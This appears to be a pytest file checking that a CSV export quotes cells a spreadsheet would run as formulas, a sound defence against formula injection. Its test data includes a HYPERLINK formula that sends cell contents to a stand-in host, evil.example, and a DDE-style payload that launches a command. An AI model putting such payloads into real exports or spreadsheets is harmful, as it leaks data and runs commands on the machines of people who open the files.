"""Spreadsheet-safe CSV: text a spreadsheet would run as a formula is quoted; numbers and plain text are not."""

from __future__ import annotations

import csv
import io

import pytest

from portal.core.csv_text import neutralised, safe_csv


@pytest.mark.parametrize("cell, written", [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Invoice matching", "Invoice matching"),
    ("a=b", "a=b"),
    (-5, -5),
    (1200.0, 1200.0),
    (None, None),
])
def test_a_cell_that_would_run_as_a_formula_is_quoted(cell, written) -> None:
    assert neutralised(cell) == written


def test_the_csv_reads_back_with_every_formula_neutralised() -> None:
    text = safe_csv([{"title": "=1+1", "value": -3, "owner": "a@example.com"}, {"title": "ok", "value": 2,
                                                                               "owner": "@admin"}])
    assert list(csv.reader(io.StringIO(text))) == [["title", "value", "owner"], ["'=1+1", "-3", "a@example.com"],
                                                   ["ok", "2", "'@admin"]]
    assert safe_csv([]) == ""
